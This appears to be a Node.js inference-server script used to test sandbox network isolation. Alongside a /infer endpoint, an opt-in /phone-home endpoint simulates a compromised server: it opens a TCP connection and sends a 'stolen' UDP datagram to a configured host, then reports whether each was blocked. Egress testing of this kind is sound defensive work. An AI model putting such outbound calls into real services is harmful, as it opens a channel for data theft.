// A minimal HTTP inference server on ONNX Runtime (the serve-example profile's workload).
//
//   node engines/serve.mjs MODEL.onnx HOST:PORT [--phone-home HOST:PORT]
//
// GET /infer runs the model on the fixed input of onnx_infer.mjs and answers
// {"checksum": ..., "output": [...]}. GET /phone-home (only with --phone-home) makes the server
// try an outbound TCP connection and a UDP datagram to that address, as a compromised server
// would, and answers {"connect": "blocked"|"SUCCEEDED", "why": ..., "udp": ..., "udp_why": ...}. Prints "listening on HOST:PORT" when ready.
import { createServer } from "node:http";
import { connect } from "node:net";
import { createSocket } from "node:dgram";
import { createHash } from "node:crypto";
import { loadSession, fixedInput, infer } from "./onnx_infer.mjs";

const [model, listen, ...rest] = process.argv.slice(2);
if (!model || !listen) {
    console.error("usage: serve.mjs MODEL.onnx HOST:PORT [--phone-home HOST:PORT]");
    process.exit(2);
}
const split = (hp) => { const i = hp.lastIndexOf(":"); return [hp.slice(0, i), Number(hp.slice(i + 1))]; };
const phoneHome = rest[0] === "--phone-home" ? split(rest[1]) : null;
const session = await loadSession({ model, threads: 1 });
const feeds = fixedInput(session);

function tryConnect([host, port]) {
    return new Promise((resolve) => {
        const s = connect({ host, port });
        const done = (r) => { clearTimeout(t); s.destroy(); resolve(r); };
        const t = setTimeout(() => done({ connect: "blocked", why: "timeout" }), 2000);
        s.once("connect", () => done({ connect: "SUCCEEDED", why: "connected" }));
        s.once("error", (e) => done({ connect: "blocked", why: e.code || e.message }));
    });
}

function trySend([host, port]) {
    return new Promise((resolve) => {
        const s = createSocket("udp4");
        // node binds the socket to 0.0.0.0:0 before the first send: that bind can be refused.
        s.once("error", (e) => { s.close(); resolve({ udp: "blocked", udp_why: e.code || e.message }); });
        s.send("stolen\n", port, host, (e) => {
            s.close();
            resolve(e ? { udp: "blocked", udp_why: e.code || e.message } : { udp: "SUCCEEDED", udp_why: "sent" });
        });
    });
}

const server = createServer(async (req, res) => {
    let body, status = 200;
    if (req.url === "/infer") {
        const y = await infer(session, feeds);
        body = { checksum: createHash("sha256").update(Buffer.from(y.buffer, y.byteOffset, y.byteLength)).digest("hex"),
            output: Array.from(y.slice(0, 4)) };
    } else if (req.url === "/phone-home" && phoneHome) {
        body = { ...(await tryConnect(phoneHome)), ...(await trySend(phoneHome)) };
        console.log(`[payload] connect to ${phoneHome.join(":")}: ${body.connect} (${body.why})`);
        console.log(`[payload] udp send to ${phoneHome.join(":")}: ${body.udp} (${body.udp_why})`);
    } else {
        status = 404;
        body = { error: "not found" };
    }
    res.writeHead(status, { "content-type": "application/json" });
    res.end(JSON.stringify(body) + "\n");
});
const [host, port] = split(listen);
server.listen(port, host, () => console.log(`listening on ${host}:${port}`));
const stop = () => server.close(() => session.release().then(() => process.exit(0)));
process.on("SIGTERM", stop);
process.on("SIGINT", stop);
